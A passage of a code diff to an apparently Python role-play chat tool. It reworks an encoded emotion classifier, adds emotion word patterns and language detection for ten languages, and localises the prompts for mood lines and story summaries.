+JDC5Nv}l0e*ln2;I4Nzq$s0_?G3GE;?Lu=@pi!?g=D#fZf93ZpjQ!_-4kbT<O_NtuW-j(I-d+_&dlB}i5*#Zr;<_CGORF6(`#?CC!1CFeLF!l&lkcOS{
+z-br|Wd5KIIm5bL#{H0x4?eq`GR+8m;?mOB5iI4sbx%!PU%4z4i?j%C_M;;16N|*k6PNSD(vi}41hFdu4?gVv!XMk~pF)k2?LQ=IL!-rC&w-7)itW-ZZ
+S_6kjU^{9^K<Uj<>kV##2C&WNht)i<04^Q<SEWg<^>>bC)r1YYN3g~%lT*XI({F_=a!|F>b`Yj#!7iJg&j=rqF%zpi!di?O0TNQ8dW#sKsnkQfRpT<Qm
+e1Vvat{u8q)8yHWJOJs1U-#_y8ZGzdu(UBu`>278zZ;{aLf+Y)#22!dnM1Z`?v6>lb*jD2TH3l8_LkcF3yRx2V_N}4}%b^o$!s=yjg1wSSLFxk&w~EZm
+&>1MSz8B=S}&N<^s^WgM2Ed4Ei$MLT=G)NKHtOJsIhO)>#axZ2l3X1izG%3AYUPRsH29UU-J5m=1vT$OnaNh%#nfHBhP|#-t6YiLr`e3P2gUUzM^0FUE
+SRCM-19OxCEYa9s~ocu6x7qde}*lj%csybGxL=_4&B;=UtFD2F>4-Ae2!USuS*LYhp$fC0i{@L~F0qd|&6Ztzsv=!V10YwIFRbypag+NX|)+es%<`yPV
+a8;I9M-ewouoDQP;WR*jY)Lj|c)nB9shMUGahSxsjrr`(Q_}=i}7w;J^{`B7Aoxl0F;W>}`;PAJv`N{BvD{dKH_4wO{zrXp0;mT*-F+BB=?--tY@8^f@
+@BVA}o9n+iyz=Hx4?las*M|33|1&)1$=@2@_JZ#Y5BuMT9^d`X4?kY^>rW0(c<8T&7d`3L;p4-LhHGA(hqwOx&f%B8zGL{ui=P@k{E%CQ_x<+kf8ciwc
+Rk|x^*8+I>AO$6?CkzO|McmqXMOPQ?|tKirzbxDh70e$;wh)Ix7>Gn@U}lXyZX`_P8Yv5UijLVw$r7TeDieK4=+D^=lB2P^s+}k=5*~dZoIpF;M*78bL
+r(*-+%4fhWoDl*y)G2|Jm8qS3Ypzmi6A#&+=cMrOUs6`p}j453m2&<IgT#b<gnGS2t(>e)&&NxBc?6v+E!J+2Qtkn!BIa-u74JKK1j`?HQCUn};b?<A{
+m?*<59qQ5ejbX;SuV+HEaDx|W2JEJ+!&PRx+9U};;*S(Cbfn!7OJqefonMR5I00W@x*c4ByF?g+3{t!o(-NM#X~E&tjybt4cjD?`HWf*qZV_bSp;a&P(
+ug<+?&Q19V^1O~82<<mqFvydeYORMZ4OfhHA3R3JktGn`!^riXEIjUGZtg^G&@-+eiT59be6pG8n=rKEjO8${1?RMuOoaTjrnM3MjFkWMijl3rCP`v5N
+&WNQR!>H^ebhMft*-*)mUP%*)NP#VaxwX}rMn+JST~mY$aXXh4HwcQiCD&s>haHn?J9zu6WRy&4ZOe^pBLSXMZ6q5hRVIo=g7fU&)`_P=7hlRfpC-15#
+fYHN!Rz@$xn3=p0H>AybCJ#7g9PIm3O9XZ6x_;yt+%PICp~|he?ksGC#!$znj={gk2Q6L3H#}4%;jfg{Y9b~_j*}Ep}#c2Xy&9sd0##XX>|(xa6SY@z<
+KDhbMYCPPD>O?&3@J8$KN8x+$KN~KU~B#YA-dT?_IXJoJ$k#BYD{(Kum(}BF|w(LMWi6#RxH}I4-je+wi57pUM@Rqn36nKg^=nMfV#8+Y3aW7|F|TGFe
+uLd<=c2{tjhX5dyD|LA6X1tVa+bwY3l&*3_?~PQr_!Pib0aoX#|a+9HFNR2s(ENo5)Z^tN}>ix9+Y{%cukZJ<%r9`H7Skd;pwvypWAO_ckiVPx44aA2Z
+V9Lq<Jd>`|p=e`la1i&uKFVBm7_{yjg2Bcx)rRy|_&rLd{)VHu0II2fx;#!8`=A*!suig~oN3#mxS(&|Ko|U%x8XqxeAp^8?=n>gJnERLnovjG7L2=^K
+Y-#1!)5w)M0Oq@}BDruZ8qAyLBm}a7LXwO$i7OnZX%;f!)-^$1ZR)Y?s97E@B$#DHNzQI3v3!kMd=A76?q@@i8bmAnej!grodl{%yVi0%n)}jpu=?=rD
+o=Q%-B?titR|0>TL-0UniE@$Vn%pD8|S|s%2<u?XG<{dn<hj{_Wot@_6kT#Avx=iY~x~u8htq6aJl3OlY<$Na@cx@btZ+{rrSvQ0CAGCgsWyQrDazZFX
+S*j8ss|xa+R`j0(_QgXDUaKpvrrIU{U6q4!#`pDzqc3PQ_~rJuIuPkgHjWskSt`9rz))tvtN34jiHE`-{?b^twikgxuOTBfJ2)7cH-b2h==s@MJ9}5z5
+g(n)V9CNE#+6Nrc0%6Tv^_ET!jd2!5s(BF2?T=fWGMwZy6+xrF&H3)+QJZmVL+I9%PrLXm@(8CyR_FO_|hXI$XW1E@4c{Y-6*@pU@L+BC-2?%t8DXH#e
+S2sy~|tf2(OoNnY?Z7`T%vb&7iTy__p4L{8|uBOjP<f_MME*sin2(N*Bj-`3JkhS2_rZBy)AUS)78@+DW+SwK7@>HxCR>k8rf!zo|P3nZX4eeJY0ixuz
+WY1}S0OotNcBT8_+hi4Wt1R?d?Stgj|Ce9!dx(5z@B
 """
 # fmt: on
 
 
 @functools.cache
-def emotion_heads() -> dict[str, tuple[np.ndarray, np.ndarray]]:
-    """The linear heads by name: weights float32 [inputs, OUTPUTS] and bias float32 [OUTPUTS]."""
-    raw, heads = base64.b85decode("".join(EMOTION_WEIGHTS.split())), {}
-    for name, blocks in HEADS.items():
-        floats = np.frombuffer(raw, "<f4", (len(blocks) + 1) * OUTPUTS).reshape(-1, OUTPUTS)
-        weights = np.frombuffer(raw, np.int8, sum(blocks) * OUTPUTS, floats.nbytes).reshape(-1, OUTPUTS)
-        raw = raw[floats.nbytes + weights.nbytes :]
-        heads[name] = (weights * np.repeat(floats[:-1], blocks, axis=0), floats[-1])
-    return heads
+def emotion_heads() -> dict[str, list[tuple[np.ndarray, np.ndarray]]]:
+    """The heads by name, each a hidden layer and one of OUTPUTS: weights float32 [inputs, units] and bias [units]."""
+    raw, heads = zlib.decompress(base64.b85decode("".join(EMOTION_WEIGHTS.split()))), defaultdict(list)
+    for name, (inputs, hidden) in HEADS.items():
+        for blocks, units in ((inputs, hidden), ((hidden,), OUTPUTS)):
+            floats = np.frombuffer(raw, "<f4", (len(blocks) + 1) * units).reshape(-1, units)
+            weights = np.frombuffer(raw, np.int8, sum(blocks) * units, floats.nbytes).reshape(-1, units)
+            raw = raw[floats.nbytes + weights.nbytes :]
+            heads[name].append((weights * np.repeat(floats[:-1], blocks, axis=0), floats[-1]))
+    return dict(heads)
 
 
 def softmax(logits: np.ndarray) -> np.ndarray:
@@ -1988,9 +2585,10 @@ def softmax(logits: np.ndarray) -> np.ndarray:
 
 def blended(outputs: np.ndarray) -> np.ndarray:
     """The probabilities [7] that a head's outputs [OUTPUTS] stand for: both experts', mixed as the gate says."""
-    labels = len(EMOTIONS)
-    played = 1 / (1 + math.exp(-min(50.0, max(-50.0, float(outputs[-1])))))
-    return (1 - played) * softmax(outputs[:labels]) + played * softmax(outputs[labels:-1])
+    comments, role_play, gate = np.split(outputs, (sum(FINE_SIZES), len(outputs) - 1))
+    played = 1 / (1 + math.exp(-min(50.0, max(-50.0, float(gate[0])))))
+    grouped = np.add.reduceat(softmax(comments), np.cumsum((0, *FINE_SIZES[:-1])))
+    return (1 - played) * grouped + played * softmax(role_play)
 
 
 def reading_of(probabilities: Sequence[float]) -> EmotionReading:
@@ -1998,6 +2596,114 @@ def reading_of(probabilities: Sequence[float]) -> EmotionReading:
     scores = {label: float(p) for label, p in zip(EMOTIONS, probabilities, strict=True)}
     label = max(scores, key=scores.__getitem__)
     return EmotionReading(label, scores[label], scores)
+
+
+# By language, words that name a feeling or show it plainly: joy, sadness, anger, fear, surprise, disgust; and words
+# that turn one. The trained reader knows English alone: elsewhere, what is not said in such words is neutral.
+FELT = {
+    "de": (
+        r"glücklich|freue mich|froh\b|wunderbar|herrlich|juhu|hurra|begeistert|lach(?:e|t) (?:laut|fröhlich)|"
+        r"strahl(?:e|t)\b",
+        r"traurig|wein(?:e|t|te)\b|tränen|schluchz|einsam|vermisse\b|untröstlich|verzweifel|trauer|herz ist gebrochen",
+        "wütend|zornig|sauer auf|hasse|verdammt|wie kannst du|halt den mund|verärgert|stinksauer|lass mich in ruhe",
+        "habe angst|hab(?:e)? solche angst|ängstlich|fürchte mich|zittr|zittert|panik|erschrocken|entsetz|grauen",
+        r"überrascht|unglaublich|was\?!|nicht dein ernst|verblüfft|staune|fassungslos|kann nicht wahr sein",
+        "ekel|widerlich|igitt|abscheulich|mir wird schlecht|pfui", r"nicht|kein\w*|nie|niemals|ohne",
+    ),
+    "es": (
+        r"feliz|contenta?o?\b|me alegr|alegría|maravillos|genial|qué bien|sonrío|emocionad[oa]",
+        "triste|lloro|llorando|lágrimas|solloz|echo de menos|extraño mucho|desconsolad|sol[oa] y|corazón roto",
+        "furios|enfadad|enojad|rabia|odio|maldit|cállate|cómo te atreves|déjame en paz|hart[oa] de",
+        "tengo (?:mucho )?miedo|asustad|tiembl|pánico|terror|aterrad|angustia",
+        r"sorprendid|increíble|no puede ser|no me lo creo|asombrad|de verdad\?!|boquiabiert",
+        "asco|asqueros|repugnan|náuseas|puaj", "no|nunca|jamás|sin|ni|tampoco",
+    ),
+    "fr": (
+        r"heureu(?:x|se)|content(?:e)?\b|ravie?\b|joie|génial|merveilleu|youpi|quel bonheur|rayonne",
+        r"triste|pleur|larmes|sanglot|me manque|désespér|chagrin|cœur brisé|si seule?\b",
+        r"furieu|en colère|énervée?|déteste|haïs|rage\b|tais-toi|comment oses|fiche-moi la paix|ras le bol",
+        "j'ai (?:si |très |tellement )?peur|effray|trembl|panique|terrifi|terreur|angoiss",
+        r"surprise?\b|incroyable|pas possible|stupéf|étonn|n'en reviens pas|quoi \?!",
+        "dégoût|répugn|écœur|beurk|nausée|immonde", "pas|jamais|plus|sans|aucune?|ni",
+    ),
+    "it": (
+        r"felice|contenta?o?\b|gioia|meraviglios|fantastic|che bello|evviva|entusiasta",
+        "triste|piang|lacrime|singhiozz|mi manchi|mi manca|disperat|cuore spezzato|tanto sol[oa]",
+        "furios|arrabbiat|rabbia|odio|maledett|stai zitt|come osi|lasciami in pace|stuf[oa] di",
+        r"ho (?:tanta |molta |così )?paura|spaventat|trem[oa]\b|tremando|panico|terror|angoscia",
+        "sorpres|incredibile|non ci credo|non può essere|stupit|sbalordit", "schifo|disgust|ripugnan|nausea|bleah",
+        r"non|mai|senza|né|nessun\w*",
+    ),
+    "pt": (
+        r"feliz|contente|alegr|maravilhos|que bom|adorei|animad[oa]|oba\b",
+        r"triste|chor(?:o|ar|ando|a)\b|lágrimas|soluç|saudades?|desesperad|coração partido|tão sozinh",
+        "furios|zangad|com raiva|raiva|odeio|maldit|cala a boca|cala-te|como te atreves|como ousa|me deixa em paz",
+        "(?:tenho|estou com|com tanto) (?:muito |tanto )?medo|assustad|tremo|tremendo|pânico|terror|apavorad|angústia",
+        r"surpres|incrível|não acredito|não pode ser|espantad|sério\?!", r"nojo|nojent|repugnan|náusea|eca\b",
+        "não|nunca|jamais|sem|nem",
+    ),
+    "pl": (
+        "szczęśliw|cieszę się|radoś|wspaniał|cudown|hurra|zachwycon|uśmiecham się",
+        "smutn|płacz|łzy|łzami|szloch|tęskni|rozpacz|złamane serce|taka? samotn",
+        "wściek|zły na|zła na|nienawidzę|cholern|zamknij się|jak śmiesz|daj mi spokój|mam dość",
+        "boję się|przestrasz|przeraż|drżę|trzęsę się|panik|lęk",
+        r"zaskocz|niewiarygodn|niemożliwe|nie wierzę|zdumion|co\?!", r"obrzydl|ohydn|wstręt|niedobrze mi|fuj\b",
+        "nie|nigdy|bez|ani",
+    ),
+    "ru": (
+        r"счастлив|рад\b|рада\b|радост|ура\b|чудесно|прекрасно|замечательно|смеюсь",
+        "груст|печаль|плач|слёз|слез|рыда|скучаю по|одинок|отчаян|разбито сердце|тоск",
+        r"злюсь|зол\b|зла на|ярост|бешен|ненавижу|проклят|замолчи|как ты смеешь|оставь меня в покое|надоел",
+        r"боюсь|страшно|испуга|дрож|паник|ужас\b|в ужасе|трясутся",
+        r"удивл|не может быть|невероятно|поверить не могу|ошеломл|что\?!", r"отврат|мерзк|гадост|тошнит|фу\b|брезг",
+        "не|нет|никогда|без|ни",
+    ),
+    "zh": (
+        "开心|高兴|快乐|太好了|幸福|哈哈|真棒", "难过|伤心|哭|眼泪|悲伤|想念|孤独|绝望|心碎",
+        "生气|愤怒|讨厌你|恨你|闭嘴|滚开|气死|你怎么敢", "害怕|好怕|恐惧|发抖|可怕|惊恐|不安",
+        "惊讶|吃惊|不会吧|怎么可能|没想到|天啊", "恶心|想吐|厌恶|好脏", "不|没|别|无",
+    ),
+    "ja": (
+        "嬉し|うれし|楽しい|幸せ|やった|最高だ|わーい", "悲し|寂し|さびし|泣|涙|つらい|辛い|会いたかった",
+        "怒|腹が立|ムカつく|むかつく|許さない|黙れ|ふざけるな|大嫌い", "怖|こわい|恐ろし|震え|不安",
+        "驚|びっくり|まさか|信じられない|嘘だろ|えっ", "気持ち悪|吐き気|汚らわし|おえっ|うげ", "ない|ません|なく|ぬ",
+    ),
+    "ko": (
+        "기뻐|기쁘|행복|신난다|좋아요|최고야|웃으며", "슬퍼|슬프|울었|울고|눈물|외로|그리워|보고 싶",
+        "화나|화났|화가 나|짜증|미워|닥쳐|꺼져|어떻게 감히", "무서|두려|떨려|떨린다|겁나|불안",
+        "놀랐|놀라|설마|믿을 수 없|말도 안 돼|깜짝", "역겨|구역질|징그러|더러워", "안|않|못|없",
+    ),
+}  # fmt: skip
+NAMED_DOUBT = 0.2  # about a feeling that is named once; a second word halves it
+TURNED_BEFORE, TURNED_AFTER = 16, 7  # characters beside a feeling's word in which a turning one turns it
+
+
+@functools.cache
+def felt_patterns(language: str) -> tuple[re.Pattern, ...]:
+    """What finds a language's words for each of the six feelings, and those that turn one."""
+    edge = "" if language in ("zh", "ja", "ko") else r"\b"
+    *feelings, turned = FELT[language]
+    return (
+        *(re.compile(rf"{edge}(?:{words})", re.I) for words in feelings),
+        re.compile(rf"{edge}(?:{turned}){edge}", re.I),
+    )
+
+
+def read_named(text: str, language: str) -> EmotionReading:
+    """What a message in another language of FELT than English feels: what it names, or what its pictures show."""
+    text, tally = clip(text), [[0.0] * len(EMOTIONS) for _ in CHANNELS]
+    *feelings, turned = felt_patterns(language)
+    for label, pattern in enumerate(feelings):
+        for found in pattern.finditer(text):
+            before = re.split(r"[.!?,;:。！？、，\n]", text[max(0, found.start() - TURNED_BEFORE) : found.start()])[-1]
+            after = re.split(r"[.!?,;:。！？、，\n]", text[found.end() : found.end() + TURNED_AFTER])[0]
+            tally[PICTURE][label] += not turned.search(before) and not turned.search(after)
+    read_pictures(text, tally)
+    total = sum(tally[PICTURE])
+    if not total:
+        return reading_of([0.0] * NEUTRAL + [1.0])
+    plain = 1 - NAMED_DOUBT / total
+    return reading_of([*(plain * found / total for found in tally[PICTURE][:NEUTRAL]), 1 - plain])
 
 
 def read_emotion(text: str, vector: np.ndarray | None = None) -> EmotionReading:
@@ -2011,26 +2717,19 @@ def read_emotion(text: str, vector: np.ndarray | None = None) -> EmotionReading:
         return reading_of([0.0] * NEUTRAL + [1.0])  # says nothing, so it feels nothing
     features = emotion_features(text)
     with_vector = vector is not None and len(vector) == VECTOR_SIZE
-    weights, bias = emotion_heads()["vector" if with_vector else "lexicon"]
+    (into, start), (out, bias) = emotion_heads()["vector" if with_vector else "lexicon"]
     inputs = np.concatenate([vector, features]) if with_vector else features
-    return reading_of(blended(inputs @ weights + bias))
+    return reading_of(blended(np.maximum(inputs @ into + start, 0) @ out + bias))
 
 
-# GoEmotions' 28 labels by the basic emotion that its authors count them to (Demszky et al. 2020, "ekman_mapping").
-FINE_LABELS = {
-    "joy": "admiration amusement approval caring desire excitement gratitude joy love optimism pride relief happiness",
-    "sadness": "disappointment embarrassment grief remorse sadness",
-    "anger": "anger annoyance disapproval",
-    "fear": "fear nervousness",
-    "surprise": "confusion curiosity realization surprise",
-    "disgust": "disgust",
-    "neutral": "neutral",
-}
+def feeling_in(words: Wording, text: str, vector: np.ndarray | None = None) -> EmotionReading:
+    """What a message of a chat in a language feels; see `read_named` and `read_emotion`."""
+    return read_emotion(text, vector) if words.language not in FELT else read_named(text, words.language)
 
 
 def grouped_reading(scores: Iterable[tuple[str, float]]) -> EmotionReading:
     """A reading from another classifier's labels and scores; raises `ValueError` where it knows none of the labels."""
-    basic = {fine: label for label, names in FINE_LABELS.items() for fine in names.split()}
+    basic = {fine: label for label, names in FINE_LABELS.items() for fine in names.split()} | {"happiness": "joy"}
     sums = dict.fromkeys(EMOTIONS, 0.0)
     for label, score in scores:
         if label.lower() in basic:
@@ -2051,14 +2750,6 @@ IMPORTANCE_FACTORS = {
     "length": 0.08,  # words, on a logarithmic scale; 100 are enough
     "question": 0.06,  # it asks
 }
-PROMISE = re.compile(
-    r"\b(?:i|we)(?:['’]ll| will| shall)? (?:\w+ )?(?:promise|swear|vow|pledge|guarantee)\b"
-    r"|\b(?:i|we)(?:['’]ll| will| shall) (?:never|always)\b|\b(?:you have|you['’]ve got|on) my (?:word|honou?r|life)\b"
-    r"|\b(?:i|we) give (?:you )?(?:my|our) word\b|\bit['’]?s a deal\b|\bdeal\?|\b(?:we have|we['’]ve got) a deal\b"
-    r"|\bpinky[ -](?:swear|promise)|\bcross my heart\b|\bpromise me\b|\bmy (?:oath|vow)\b|\bswor[en] .{0,20}oath\b"
-    r"|\byou promised\b|\bword of honou?r\b",
-    re.IGNORECASE,
-)
 NAME = re.compile(r"(?<=[\w,;)\-–—'’] )[A-Z][^\W\d_]{2,}")
 NOT_NAMES = """
     the and but not yes god gods omg lol wtf ooc monday tuesday wednesday thursday friday saturday sunday
@@ -2110,16 +2801,16 @@ MOOD_DECAY = 0.5  # what a message counts in the mood after each further one
 MOOD_START = 0.5  # probability that a message must have a feeling with for it to become the mood: likelier than not
 MOOD_FLOOR = 0.20  # averaged probability below which there is no mood
 MOOD_MARGIN = 0.05  # by which another feeling must be stronger than the mood, so that the mood does not flicker
-# label -> (the mood in a word, what the guidance line says of it, what it asks for, confidence from which it is said).
-# Politeness reads as joy and a question as surprise (GoEmotions counts curiosity to it): those two must be surer.
+# label -> (the mood in a word, confidence from which a model is told of it). Politeness reads as joy and a question as
+# surprise (GoEmotions counts curiosity to it): those two must be surer.
 MOOD_WORDS = {
-    "joy": ("cheerful", "in good spirits", "share the lightness", 0.92),
-    "sadness": ("sad", "sad", "be gentle, leave room", 0.55),
-    "anger": ("angry", "angry", "take it seriously, stay steady", 0.60),
-    "fear": ("anxious", "anxious", "give safety, go slowly", 0.60),
-    "surprise": ("surprised", "taken by surprise", "let it sink in", 0.75),
-    "disgust": ("disgusted", "repelled", "respect the distance", 0.60),
-    "neutral": ("calm", "", "", math.inf),
+    "joy": ("cheerful", 0.92),
+    "sadness": ("sad", 0.55),
+    "anger": ("angry", 0.60),
+    "fear": ("anxious", 0.60),
+    "surprise": ("surprised", 0.75),
+    "disgust": ("disgusted", 0.60),
+    "neutral": ("calm", math.inf),
 }
 
 
@@ -2171,12 +2862,14 @@ def swing_line(swing: Mood) -> str:
     return f"was {was}, turned {now} at message {swing.since + 1}"
 
 
-def guidance_line(mood: Mood | None, name: str = "User") -> str:
+def guidance_line(mood: Mood | None, name: str = "", words: Wording = ENGLISH) -> str:
     """One line for the prompt on how the user feels and since when; empty where that is unsure or nothing."""
-    _, feels, answer, worth = MOOD_WORDS[mood.label if mood else "neutral"]
-    if mood is None or mood.confidence < worth:
+    if mood is None or mood.confidence < MOOD_WORDS[mood.label][1]:
         return ""
-    return f"[{name} seems {feels} since #{mood.since + 1}: {answer}; do not name it.]"
+    told = EMOTIONS.index(mood.label)
+    return words.mood.format(
+        name=name or words.user, feels=words.feelings[told], since=mood.since + 1, answer=words.answers[told]
+    )
 
 
 def emotion_match(a: EmotionReading, b: EmotionReading) -> float:
@@ -4771,6 +5464,31 @@ def language_of(text: str, usual: str = "en") -> str:
     return best if counts[best] >= LEAST_STOP_WORDS else usual
 
 
+# Languages whose texts look like those that are known; a chat in one of them is told of in English.
+RIVAL_LANGUAGES = ("nl", "sv", "da", "no", "fi", "tr", "cs", "sk", "hu", "ro", "hr", "id", "vi")
+LEAST_SIGNS = 4  # of a script whose signs are words or syllables
+CLEARLY = 0.6  # share of the texts that are in any language
+
+
+def told_language(text: str) -> str:
+    """The language of a text (ISO 639-1); empty where it is too short to tell, or could be in two."""
+    scripts = {"ja": len(KANA.findall(text)), "ko": len(HANGUL.findall(text)), "zh": len(IDEOGRAPHS.findall(text))}
+    cyrillic, words = len(CYRILLIC.findall(text)), re.findall(r"[^\W\d_]+", text.lower())
+    signs = sum(scripts.values())
+    if signs >= LEAST_SIGNS and 2 * signs > len("".join(words)) - signs:  # a sign says more than a letter
+        return "ja" if scripts["ja"] > 0.1 * signs else max(scripts, key=scripts.__getitem__)
+    rivals = ("ru", "uk", "bg") if 2 * cyrillic > len("".join(words)) else (*LATIN_LANGUAGES, *RIVAL_LANGUAGES)
+    counts = sorted(((len(stop_words(rival).intersection(words)), rival) for rival in rivals), reverse=True)
+    return counts[0][1] if counts[0][0] >= LEAST_STOP_WORDS and counts[0][0] > counts[1][0] else ""
+
+
+def wording_for(texts: Iterable[str]) -> Wording:
+    """What to tell a model of such texts in: the language that clearly most of them are in, else English."""
+    told = Counter(filter(None, (told_language(clip(text)) for text in texts)))
+    language, count = told.most_common(1)[0] if told else ("en", 0)
+    return WORDINGS.get(language, ENGLISH) if count >= CLEARLY * told.total() else ENGLISH
+
+
 @functools.lru_cache(1 << 16)
 def stemmed(word: str, language: str) -> str:
     """A word without its ending. English words stay as they are: the lexical table has Porter's stemmer itself."""
@@ -5271,6 +5989,9 @@ SAME_PERSONA = 0.75  # of the shorter persona's words: two cards in one frame sh
 DELETED = ".deleted-"  # begins the name of a folder that is being deleted
 
 
+SETTLED = 256  # messages after which a chat's language does not change
+
+
 class Chat:
     """One open chat, and the one owner of everything that belongs to it.
 
@@ -5284,6 +6005,7 @@ class Chat:
         self.readings: dict[str, EmotionReading] = {}  # by text hash; such as will not change
         self.word_readings: dict[str, EmotionReading] = {}  # by words alone, until there is a vector
         self.persona_vectors: dict[str, np.ndarray | None] = {}  # by piece; None: being computed
+        self.wordings: dict[str, Wording] = {}  # by the last of the messages that they were found from
         self.last_prompt: list[Sent] | None = None
         self.awaiting_vectors: set[str] = set()  # messages for the background
         self.places: tuple[list[str], Any] = ([], None)  # the branch that was last told of, and where summaries stand
@@ -5322,6 +6044,20 @@ class Chat:
         """The digests of those messages' texts."""
         return [self.tree.nodes[i].digest for i in path]
 
+    def wording(self, path: Sequence[str]) -> Wording:
+        """In which language a model is told of a branch. It is found anew only where the branch has doubled, and never
+        after SETTLED messages: words that change make the prompt's beginning change."""
+        count = min(1 << max(0, len(path).bit_length() - 1), SETTLED) if path else 0
+        last = path[count - 1] if count else ""
+        if last not in self.wordings:
+            self.wordings[last] = wording_for(m.content for m in self.store.read(path[:count]))
+        return self.wordings[last]
+
+    @property
+    def usual_wording(self) -> Wording:
+        """The one that was found last: branches of a chat are in one language as a rule."""
+        return next(reversed(self.wordings.values()), None) or self.wording(self.path())
+
     def follow(self, nodes: Sequence[Node], embedder: Embedder) -> MemoryIndex:
         """The index, made that of a whole branch, with the vectors that the store has."""
         if fresh := self.index.follow(nodes, self.store.read):
@@ -5346,8 +6082,8 @@ class Chat:
         with self.lock:
             self.store.erase(digests)
             self.index, self.last_prompt = MemoryIndex(), None
-            self.readings.clear()
-            self.word_readings.clear()
+            for kept in (self.readings, self.word_readings, self.wordings):
+                kept.clear()
 
     def close(self) -> None:
         """Closes its files."""
@@ -6725,23 +7461,6 @@ MOST_BRACES = 20  # in them, at which their JSON may begin
 MOST_FACTS = 6  # from one stretch
 SHORTEST_QUOTE = 6  # characters that prove something; half of that where characters say more
 WORDS_PER_TOKEN = 0.7  # of English prose in cl100k_base
-STORY_HEADING = "[The story so far, oldest first:]"
-FACTS_HEADING = "Facts:"
-STORY_ENDING = "[End of the story so far]"
-SUMMARY_TASK = """You keep the chronicle of a role-play chat. Retell the numbered {what} below in at most {words} \
-words, in the language they are written in, in the third person and the past tense. Keep names, promises, places, \
-turning points, gifts, injuries, and who felt what. Add nothing of your own, do not continue the story, do not \
-comment."""
-JSON_ANSWER = """Answer with JSON and nothing else: {{"summary": "...", "facts": [{{"about": "whose or which thing's \
-which trait", "fact": "one short sentence", "message": its number, "quote": "a few exact words of that message"}}]}}, \
-with at most {facts} facts that will still hold tomorrow."""
-PLAIN_ANSWER = """Answer with the retelling alone, in plain sentences: no title, no list, no JSON, no dialogue, not a \
-word about yourself."""
-REFUSAL = re.compile(
-    r"\W*(?:i(?:['’]m| am) sorry|sorry,|i apologi[sz]e|i (?:can(?:no|['’])t|cannot|am unable|won['’]t)\b"
-    r"|i(?:['’]m| am) (?:unable|not able|just an? )|as an? (?:ai|language model|large language)|unfortunately, i\b)",
-    re.IGNORECASE,
-)
 SENTENCE_END = re.compile(r"(?<=[.!?…。！？])[\"'”’»*)\]]*\s+|(?<=[。！？])|\n+")
 GROUNDED = 0.45  # share of a summary's words that what it covers must hold; hand-written ones reach 0.55 to 0.9
 MOST_REPEATED = 0.7  # share of a summary's sentences that must differ
@@ -6876,13 +7595,13 @@ def to_condense(story: Sequence[Summary], budget: int) -> list[Summary]:
 
 def summaries_share(budget: int) -> int:
     """What of a story's tokens its summaries may take: what its frame and the facts leave."""
-    return min(int((1 - FACTS_SHARE) * budget), budget - story_frame_tokens())
+    return min(int((1 - FACTS_SHARE) * budget), budget - story_frame_tokens(ENGLISH))
 
 
 @functools.cache
-def story_frame_tokens() -> int:
+def story_frame_tokens(words: Wording) -> int:
     """Tokens that a story takes beside its lines."""
-    return 2 * MESSAGE_OVERHEAD + count_tokens(f"\n\n{STORY_HEADING}\n{FACTS_HEADING}\n{STORY_ENDING}\n")
+    return 2 * MESSAGE_OVERHEAD + count_tokens(f"\n\n{words.story}\n{words.facts}\n{words.end_of_story}\n")
 
 
 def summary_room(covered: int, budget: int) -> int:
@@ -6892,10 +7611,11 @@ def summary_room(covered: int, budget: int) -> int:
 
 
 def summary_request(lines: Sequence[str], what: str, room: int, strict: bool) -> list[dict]:
-    """The messages that ask a model for a summary of at most `room` tokens; `strict` asks for plain text, no facts, and
-    leaves out the numbers, which small models go on counting."""
-    task = SUMMARY_TASK.format(what=what, words=int(WORDS_PER_TOKEN * room))
-    answer = PLAIN_ANSWER if strict else JSON_ANSWER.format(facts=MOST_FACTS)
+    """The messages that ask a model for a summary of at most `room` tokens, in the lines' language; `strict` asks for
+    plain text, no facts, and leaves out the numbers, which small models go on counting."""
+    words = wording_for(lines)
+    task = words.retell.format(what=what, words=int(WORDS_PER_TOKEN * room))
+    answer = words.as_text if strict else words.as_json.format(facts=MOST_FACTS)
     return [
         {"role": "system", "content": f"{task}\n{answer}"},
         {"role": "user", "content": "\n".join(re.sub(r"^\(?#[\d-]+\)? ", "", x) if strict else x for x in lines)},
@@ -7115,13 +7835,15 @@ class Story:
         return count_tokens(self.text) + MESSAGE_OVERHEAD if self.text else 0
 
 
-def render_story(story: Sequence[Summary], facts: Sequence[tuple[Fact, Fact | None]], budget: int) -> Story:
+def render_story(
+    story: Sequence[Summary], facts: Sequence[tuple[Fact, Fact | None]], budget: int, words: Wording = ENGLISH
+) -> Story:
     """The story so far in at most `budget` tokens: the summaries oldest first, then the facts, pinned ones first.
 
     What does not fit is left out: facts that are old, then the oldest summaries (which is rare, they are condensed
     before).
     """
-    left = budget - story_frame_tokens()
+    left = budget - story_frame_tokens(words)
     pinned = fitting_facts([row for row in facts if row[0].pinned], min(left, int(PINNED_SHARE * budget)))
     left -= sum(map(fact_tokens, pinned))
     kept: list[Summary] = []
@@ -7136,7 +7858,7 @@ def render_story(story: Sequence[Summary], facts: Sequence[tuple[Fact, Fact | No
         return Story()
     lines = [fact_line(*row) for row in held]
     retold = [summary_line(s) for s in kept if s.text]  # all of a stretch may be forgotten
-    parts = [STORY_HEADING, *retold, *([FACTS_HEADING, *lines] if lines else []), STORY_ENDING]
+    parts = [words.story, *retold, *([words.facts, *lines] if lines else []), words.end_of_story]
     return Story("\n".join(parts), tuple(kept), tuple(fact for fact, _ in held))
 
 
@@ -7198,9 +7920,6 @@ def new_summary(level: int, texts: Sequence[str], start: int, text: str, covered
 RECALLED_SHARE = 0.4  # of the memories' share; the rest is for a story so far, and the history's where there is none
 NEARLY_FULL = 0.75  # of the history's budget: what will leave next is then summarised already
 HISTORY_BLOCK = 0.8  # of the history's share: how much is cut at once when the history is full
-MEMORY_HEADING = "[Earlier in this chat, oldest first. This is the past, for reference:]"
-MEMORY_ENDING = "[End of memories]"
-CARRIED_HEADING = "[From another time, in another chat. Remembered, but not part of this story:]"
 FORGOTTEN = "…"  # what a forgotten message reads like
 LITTLE_ROOM = 64  # tokens beside the frame: one or two memories
 FRAME_MARGIN = MESSAGE_OVERHEAD + 4  # what sets the block apart: a message of its own, or white space
@@ -7224,6 +7943,7 @@ class Layout:
     leaving: int = 0  # the index before which messages are out of the prompt, or will be after the next cut
     hidden: frozenset[int] = frozenset()  # indexes from `anchor` on that are not in the prompt either
     window: tuple[int, ...] = ()  # where the client makes the prompt: what each message takes there, 0 for never
+    words: Wording = ENGLISH
 
     @property
     def reach(self) -> int:
@@ -7336,7 +8056,7 @@ def beyond_window(memories: Sequence[Memory], layout: Layout, story: int) -> lis
 
     `story` are the tokens of the story. Unused memory budget lets the client show more history.
     """
